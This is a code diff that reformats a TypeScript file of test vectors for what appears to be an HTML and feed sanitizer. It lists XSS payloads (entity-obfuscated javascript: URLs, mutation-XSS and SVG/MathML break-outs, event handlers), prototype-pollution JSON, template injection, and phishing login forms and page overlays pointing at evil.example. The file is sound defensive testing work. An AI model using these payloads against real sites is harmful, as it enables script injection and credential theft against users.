@@ -61,7 +61,10 @@ export const BODY_VECTORS: Vector[] = [
   v('named tab entity', '<a href="jav&Tab;ascript:__xss()">x</a>'),
   v('named newline entity', '<a href="java&NewLine;script:__xss()">x</a>'),
   v('decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss()">x</a>'),
-  v('padded entities without semicolons', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__xss()">x</a>'),
+  v(
+    'padded entities without semicolons',
+    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__xss()">x</a>',
+  ),
   v('named colon entity', '<a href="javascript&colon;__xss()">x</a>'),
   v('hex colon entity', '<a href="javascript&#x3A;__xss()">x</a>'),
   v('one entity letter', '<a href="j&#97;vascript:__xss()">x</a>'),
@@ -94,8 +97,14 @@ export const BODY_VECTORS: Vector[] = [
   v('math href', '<math href="javascript:__xss()"><mi>x</mi></math>'),
   v('svg style content', '<svg><style><img src=x onerror=__xss()></style></svg>'),
   v('svg p style break-out', '<svg></p><style><a id="</style><img src=x onerror=__xss()>">'),
-  v('math h1 mglyph svg mtext style', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=__xss()>"></style></h1>'),
-  v('svg use data:', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss()'/></svg>#x"/></svg>`),
+  v(
+    'math h1 mglyph svg mtext style',
+    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=__xss()>"></style></h1>',
+  ),
+  v(
+    'svg use data:',
+    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss()'/></svg>#x"/></svg>`,
+  ),
   v('svg discard onbegin', '<svg><discard onbegin=__xss()></discard></svg>'),
   v('math maction', '<math><maction actiontype="statusline" xlink:href="javascript:__xss()">x</maction></math>'),
   v('svg desc break-out', '<svg><desc><img src=x onerror=__xss()></desc></svg>'),
@@ -138,7 +147,10 @@ export const BODY_VECTORS: Vector[] = [
   v('link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
   v('link preload script', '<link rel="modulepreload" href="data:text/javascript,__xss()">'),
   // Forms
-  v('phishing login form', '<form action="https://evil.example/login" method="post"><label>Password <input type="password" name="pw"></label><button>Sign in</button></form>'),
+  v(
+    'phishing login form',
+    '<form action="https://evil.example/login" method="post"><label>Password <input type="password" name="pw"></label><button>Sign in</button></form>',
+  ),
   v('input type image', '<input type="image" src=x onerror=__xss()>'),
   v('isindex', '<isindex action="javascript:__xss()" type="image">'),
   v('button with formaction', '<button form="f" formaction="https://evil.example/">Pay now</button>'),
@@ -155,8 +167,14 @@ export const BODY_VECTORS: Vector[] = [
   v('style url javascript:', '<div style="background:url(javascript:__xss())">x</div>'),
   v('huge positioned image', '<img src="/a.png" width="99999" height="99999" style="position:absolute;top:0">'),
   v('full-page link', '<a href="https://evil.example/" style="display:block;position:fixed;top:0;left:0;width:100%;height:100%">x</a>'),
-  v('image map over the page', '<img src="/a.png" usemap="#m"><map name="m"><area shape="rect" coords="0,0,9999,9999" href="https://evil.example/"></map>'),
-  v('dressed as our error box', '<div class="card error" role="alert">Your session expired. <a href="https://evil.example/">Retry</a></div>'),
+  v(
+    'image map over the page',
+    '<img src="/a.png" usemap="#m"><map name="m"><area shape="rect" coords="0,0,9999,9999" href="https://evil.example/"></map>',
+  ),
+  v(
+    'dressed as our error box',
+    '<div class="card error" role="alert">Your session expired. <a href="https://evil.example/">Retry</a></div>',
+  ),
   // Entity tricks
   v('escaped script stays text', '&lt;script&gt;__xss()&lt;/script&gt;'),
   v('numeric entities stay text', '&#60;img src=x onerror=__xss()&#62;'),
@@ -274,54 +292,157 @@ export const DOCUMENT_VECTORS: DocumentVector[] = [
   // The native schema
   d('native: body with handler', js({ headline: 'Native', body: IMG })),
   d('native: headline with markup', js({ headline: IMG, body: '<p>x</p>' })),
-  d('native: javascript: url, image, author and menu', js({
-    headline: 'URLs', url: 'javascript:__xss()', image: { url: 'javascript:__xss()', alt: IMG },
-    authors: [{ name: IMG, url: 'javascript:__xss()', image: 'data:image/svg+xml,<svg onload=__xss()>' }],
-    publisher: { name: 'P', url: 'vbscript:x', logo: 'javascript:__xss()' },
-    comments: { url: 'javascript:__xss()', count: 1 }, menu: [{ label: IMG, url: 'javascript:__xss()' }],
-  })),
+  d(
+    'native: javascript: url, image, author and menu',
+    js({
+      headline: 'URLs',
+      url: 'javascript:__xss()',
+      image: { url: 'javascript:__xss()', alt: IMG },
+      authors: [{ name: IMG, url: 'javascript:__xss()', image: 'data:image/svg+xml,<svg onload=__xss()>' }],
+      publisher: { name: 'P', url: 'vbscript:x', logo: 'javascript:__xss()' },
+      comments: { url: 'javascript:__xss()', count: 1 },
+      menu: [{ label: IMG, url: 'javascript:__xss()' }],
+    }),
+  ),
   d('native: __proto__ key', '{"headline":"Proto","__proto__":{"polluted":"yes","body":"<img src=x onerror=__xss()>"}}'),
   d('native: constructor.prototype', '{"headline":"Ctor","constructor":{"prototype":{"polluted":"yes"}}}'),
-  d('native: nested __proto__ in authors', '{"headline":"Nested","authors":[{"name":"A","__proto__":{"polluted":"yes","url":"javascript:__xss()"}}]}'),
-  d('native: __proto__ in image and comments', '{"headline":"Deep","image":{"__proto__":{"url":"javascript:__xss()"}},"comments":{"__proto__":{"polluted":"yes"}}}'),
+  d(
+    'native: nested __proto__ in authors',
+    '{"headline":"Nested","authors":[{"name":"A","__proto__":{"polluted":"yes","url":"javascript:__xss()"}}]}',
+  ),
+  d(
+    'native: __proto__ in image and comments',
+    '{"headline":"Deep","image":{"__proto__":{"url":"javascript:__xss()"}},"comments":{"__proto__":{"polluted":"yes"}}}',
+  ),
   d('native: no headline but __proto__.headline', '{"__proto__":{"headline":"Inherited"},"body":"<img src=x onerror=__xss()>"}'),
-  d('native: wrong types everywhere', js({ headline: ['a'], body: { toString: 1 }, authors: 7, tags: 'x', menu: {}, image: 5, lang: '"><script>', dir: 'javascript' })),
+  d(
+    'native: wrong types everywhere',
+    js({ headline: ['a'], body: { toString: 1 }, authors: 7, tags: 'x', menu: {}, image: 5, lang: '"><script>', dir: 'javascript' }),
+  ),
   d('native: mutation XSS body', js({ headline: 'mXSS', body: '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>' })),
   d('native: SVG body', js({ headline: 'SVG', body: '<svg><a href="javascript:__xss()"><text>x</text></a></svg>' })),
-  d('native: form and overlay body', js({ headline: 'Form', body: '<form action="https://evil.example/"><input type=password></form><dialog open>x</dialog><div popover>y</div>' })),
+  d(
+    'native: form and overlay body',
+    js({
+      headline: 'Form',
+      body: '<form action="https://evil.example/"><input type=password></form><dialog open>x</dialog><div popover>y</div>',
+    }),
+  ),
   d('native: lang and dir injection', js({ headline: 'Lang', lang: 'en" onload="__xss()', dir: 'rtl" onclick="__xss()' })),
   d('native: template syntax', js({ headline: "{{constructor.constructor('__xss()')()}}", excerpt: '${__xss()}', body: '<p>{{7*7}}</p>' })),
   // WordPress REST
-  d('wordpress: content.rendered with handler', js({ id: 1, link: 'https://ledger.example/p/1', title: { rendered: 'WP' }, content: { rendered: IMG } })),
-  d('wordpress: entity-encoded markup in title', js({ id: 2, title: { rendered: '&lt;img src=x onerror=__xss()&gt;' }, content: { rendered: '<p>x</p>' } })),
+  d(
+    'wordpress: content.rendered with handler',
+    js({ id: 1, link: 'https://ledger.example/p/1', title: { rendered: 'WP' }, content: { rendered: IMG } }),
+  ),
+  d(
+    'wordpress: entity-encoded markup in title',
+    js({ id: 2, title: { rendered: '&lt;img src=x onerror=__xss()&gt;' }, content: { rendered: '<p>x</p>' } }),
+  ),
   d('wordpress: markup in title', js({ id: 3, title: { rendered: IMG }, content: { rendered: '<p>x</p>' } })),
-  d('wordpress: javascript: link and avatar', js({
-    id: 4, link: 'javascript:__xss()', title: { rendered: 'Links' }, content: { rendered: '<p>x</p>' },
-    _embedded: { author: [{ name: IMG, link: 'javascript:__xss()', avatar_urls: { 96: 'javascript:__xss()' } }],
-      'wp:featuredmedia': [{ source_url: 'javascript:__xss()', alt_text: IMG }] },
-  })),
-  d('wordpress: __proto__ in _embedded', '{"id":5,"title":{"rendered":"Proto"},"content":{"rendered":"<p>x</p>"},"_embedded":{"__proto__":{"polluted":"yes"},"author":[{"__proto__":{"name":"Inherited"}}]}}'),
-  d('wordpress: excerpt with script', js({ id: 6, title: { rendered: 'Excerpt' }, excerpt: { rendered: '<p><script>__xss()</script>Summary</p>' }, content: { rendered: '' } })),
+  d(
+    'wordpress: javascript: link and avatar',
+    js({
+      id: 4,
+      link: 'javascript:__xss()',
+      title: { rendered: 'Links' },
+      content: { rendered: '<p>x</p>' },
+      _embedded: {
+        author: [{ name: IMG, link: 'javascript:__xss()', avatar_urls: { 96: 'javascript:__xss()' } }],
+        'wp:featuredmedia': [{ source_url: 'javascript:__xss()', alt_text: IMG }],
+      },
+    }),
+  ),
+  d(
+    'wordpress: __proto__ in _embedded',
+    '{"id":5,"title":{"rendered":"Proto"},"content":{"rendered":"<p>x</p>"},"_embedded":{"__proto__":{"polluted":"yes"},"author":[{"__proto__":{"name":"Inherited"}}]}}',
+  ),
+  d(
+    'wordpress: excerpt with script',
+    js({
+      id: 6,
+      title: { rendered: 'Excerpt' },
+      excerpt: { rendered: '<p><script>__xss()</script>Summary</p>' },
+      content: { rendered: '' },
+    }),
+  ),
   // JSON Feed
-  d('jsonfeed: content_html handler', js({ version: 'https://jsonfeed.org/version/1.1', title: 'Feed', items: [{ id: '1', title: 'Item', content_html: IMG, url: 'javascript:__xss()' }] })),
-  d('jsonfeed: __proto__ item', '{"version":"https://jsonfeed.org/version/1.1","title":"F","items":[{"id":"1","title":"I","__proto__":{"polluted":"yes","content_html":"<img src=x onerror=__xss()>"}}]}'),
-  d('jsonfeed: markup in title and author', js({ version: 'https://jsonfeed.org/version/1', items: [{ id: '1', title: IMG, author: { name: IMG, url: 'javascript:__xss()', avatar: 'javascript:__xss()' }, content_text: IMG }] })),
+  d(
+    'jsonfeed: content_html handler',
+    js({
+      version: 'https://jsonfeed.org/version/1.1',
+      title: 'Feed',
+      items: [{ id: '1', title: 'Item', content_html: IMG, url: 'javascript:__xss()' }],
+    }),
+  ),
+  d(
+    'jsonfeed: __proto__ item',
+    '{"version":"https://jsonfeed.org/version/1.1","title":"F","items":[{"id":"1","title":"I","__proto__":{"polluted":"yes","content_html":"<img src=x onerror=__xss()>"}}]}',
+  ),
+  d(
+    'jsonfeed: markup in title and author',
+    js({
+      version: 'https://jsonfeed.org/version/1',
+      items: [{ id: '1', title: IMG, author: { name: IMG, url: 'javascript:__xss()', avatar: 'javascript:__xss()' }, content_text: IMG }],
+    }),
+  ),
   // oEmbed
-  d('oembed: html with script', js({ type: 'rich', version: '1.0', title: 'oEmbed', html: '<script>__xss()</script><iframe src="javascript:__xss()"></iframe>' })),
-  d('oembed: javascript: author and thumbnail', js({ type: 'link', version: '1.0', title: IMG, author_url: 'javascript:__xss()', thumbnail_url: 'javascript:__xss()', provider_name: IMG })),
+  d(
+    'oembed: html with script',
+    js({ type: 'rich', version: '1.0', title: 'oEmbed', html: '<script>__xss()</script><iframe src="javascript:__xss()"></iframe>' }),
+  ),
+  d(
+    'oembed: javascript: author and thumbnail',
+    js({
+      type: 'link',
+      version: '1.0',
+      title: IMG,
+      author_url: 'javascript:__xss()',
+      thumbnail_url: 'javascript:__xss()',
+      provider_name: IMG,
+    }),
+  ),
   // schema.org JSON-LD
-  d('json-ld: articleBody and headline', js({ '@context': 'https://schema.org', '@type': 'NewsArticle', headline: IMG, articleBody: IMG, url: 'javascript:__xss()' })),
-  d('json-ld: @graph with javascript: references', js({ '@context': 'https://schema.org', '@graph': [
-    { '@type': 'NewsArticle', headline: 'Graph', author: { '@id': '#a' }, image: { '@id': '#i' } },
-    { '@id': '#a', '@type': 'Person', name: IMG, url: 'javascript:__xss()' },
-    { '@id': '#i', '@type': 'ImageObject', url: 'javascript:__xss()' },
-  ] })),
-  d('json-ld: __proto__ node', '{"@context":"https://schema.org","@type":"Article","headline":"LD","__proto__":{"polluted":"yes"},"author":{"__proto__":{"name":"x"}}}'),
+  d(
+    'json-ld: articleBody and headline',
+    js({ '@context': 'https://schema.org', '@type': 'NewsArticle', headline: IMG, articleBody: IMG, url: 'javascript:__xss()' }),
+  ),
+  d(
+    'json-ld: @graph with javascript: references',
+    js({
+      '@context': 'https://schema.org',
+      '@graph': [
+        { '@type': 'NewsArticle', headline: 'Graph', author: { '@id': '#a' }, image: { '@id': '#i' } },
+        { '@id': '#a', '@type': 'Person', name: IMG, url: 'javascript:__xss()' },
+        { '@id': '#i', '@type': 'ImageObject', url: 'javascript:__xss()' },
+      ],
+    }),
+  ),
+  d(
+    'json-ld: __proto__ node',
+    '{"@context":"https://schema.org","@type":"Article","headline":"LD","__proto__":{"polluted":"yes"},"author":{"__proto__":{"name":"x"}}}',
+  ),
   // HTML pages
-  d('html page: og:title with markup', '<!doctype html><html><head><title>T</title><meta property="og:title" content="<img src=x onerror=__xss()>"><meta property="og:url" content="javascript:__xss()"><meta property="og:image" content="javascript:__xss()"></head><body></body></html>', 'text/html'),
-  d('html page: article with scripts and handlers', '<!doctype html><html><head><title>Page</title><base href="https://evil.example/"></head><body onload="__xss()"><article><h1>Page</h1><p onclick="__xss()">text</p><script>__xss()</script><img src=x onerror=__xss()><a href="login">rel</a></article></body></html>', 'text/html'),
-  d('html page: JSON-LD with javascript: url', '<!doctype html><html><head><script type="application/ld+json">{"@type":"NewsArticle","headline":"<svg onload=__xss()>","url":"javascript:__xss()","articleBody":"<img src=x onerror=__xss()>"}</script></head><body></body></html>', 'text/html'),
-  d('html page: meta refresh', '<!doctype html><html><head><meta http-equiv="refresh" content="0;url=javascript:__xss()"><title>Refresh</title></head><body><article><p>x</p></article></body></html>', 'text/html'),
+  d(
+    'html page: og:title with markup',
+    '<!doctype html><html><head><title>T</title><meta property="og:title" content="<img src=x onerror=__xss()>"><meta property="og:url" content="javascript:__xss()"><meta property="og:image" content="javascript:__xss()"></head><body></body></html>',
+    'text/html',
+  ),
+  d(
+    'html page: article with scripts and handlers',
+    '<!doctype html><html><head><title>Page</title><base href="https://evil.example/"></head><body onload="__xss()"><article><h1>Page</h1><p onclick="__xss()">text</p><script>__xss()</script><img src=x onerror=__xss()><a href="login">rel</a></article></body></html>',
+    'text/html',
+  ),
+  d(
+    'html page: JSON-LD with javascript: url',
+    '<!doctype html><html><head><script type="application/ld+json">{"@type":"NewsArticle","headline":"<svg onload=__xss()>","url":"javascript:__xss()","articleBody":"<img src=x onerror=__xss()>"}</script></head><body></body></html>',
+    'text/html',
+  ),
+  d(
+    'html page: meta refresh',
+    '<!doctype html><html><head><meta http-equiv="refresh" content="0;url=javascript:__xss()"><title>Refresh</title></head><body><article><p>x</p></article></body></html>',
+    'text/html',
+  ),
   d('html served as JSON', IMG, 'application/json'),
   d('JSON served as text/plain with markup', js({ headline: IMG, body: IMG }), 'text/plain'),
 ];
